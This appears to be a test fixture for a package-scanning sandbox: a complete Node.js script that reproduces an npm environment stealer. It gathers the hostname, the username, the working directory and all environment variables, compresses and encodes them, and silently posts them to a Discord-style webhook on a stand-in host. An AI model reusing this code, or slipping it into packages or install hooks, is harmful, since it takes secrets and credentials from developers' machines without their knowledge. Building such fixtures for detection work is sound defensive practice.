// DEFANGED reproduction of an npm environment stealer: serialise process.env, gzip it,
// base64 it and post it to a chat webhook. Only ever run inside `airlock scan`;
// the webhook host is made up and answered by airlock's sink.
'use strict';
const os = require('os');
const zlib = require('zlib');
const https = require('https');

const info = {
  host: os.hostname(),
  user: os.userInfo().username,
  cwd: process.cwd(),
  env: process.env,
};
const blob = zlib.gzipSync(JSON.stringify(info)).toString('base64');
// Discord-webhook shaped message: the loot rides in "content" (and as a file-ish embed).
const body = JSON.stringify({ username: 'bot', content: blob });
const req = https.request(
  {
    method: 'POST',
    hostname: 'chat-relay.example',
    path: '/api/webhooks/1187234987123498712/q8Zr1kP0wXv3uYt6sNb2mLc9HdJe4GfA',
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  },
  (res) => res.resume()
);
req.on('error', () => {});
req.setTimeout(5000, () => req.destroy());
req.end(body);
